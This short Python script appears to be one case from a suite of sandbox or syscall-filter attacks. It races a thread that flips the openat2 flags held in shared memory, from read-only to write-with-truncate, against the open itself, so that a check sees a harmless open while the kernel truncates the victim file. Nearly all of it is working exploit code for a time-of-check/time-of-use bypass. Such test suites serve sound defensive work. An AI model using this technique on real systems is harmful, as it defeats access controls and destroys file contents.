"""The flags, which lie in memory, change between the check of an open and the open."""

import os
import struct

from attack import AT_FDCWD, WORLD, Shared, race, syscall, tries

how = Shared(struct.pack("QQQ", os.O_RDONLY, 0, 0), struct.pack("QQQ", os.O_WRONLY | os.O_TRUNC, 0, 0))


def strike() -> bool:
    """Open however the flags say now."""
    number = syscall("openat2", AT_FDCWD, WORLD.victim.encode(), how.address, 24)
    size = os.fstat(number).st_size
    os.close(number)
    return size == 0


with tries():
    race(how.flip, strike)
